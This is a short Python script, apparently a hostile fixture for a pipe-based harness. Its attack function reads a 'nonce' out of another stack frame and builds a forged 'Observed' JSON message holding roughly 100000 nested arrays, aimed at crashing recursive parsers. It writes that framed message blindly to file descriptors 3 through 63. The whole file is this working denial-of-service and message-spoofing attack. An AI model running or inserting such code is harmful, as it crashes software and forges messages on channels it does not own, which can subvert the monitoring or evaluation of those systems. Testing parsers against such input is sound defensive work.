"""Sends a header of 100000 nested arrays, for parsers that call themselves."""

import contextlib
import os
import struct
import sys

CONTROL = "pipe"


def attack(A):
    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"] if frame else 0
    header = b'{"kind":"Observed","nonce":%d,"x":%s,"values":' % (nonce, 100000 * b"[")
    header = header + 100000 * b"[" + 200000 * b"]" + b"}"
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<4sIQ", b"MTAG", len(header), 0) + header)
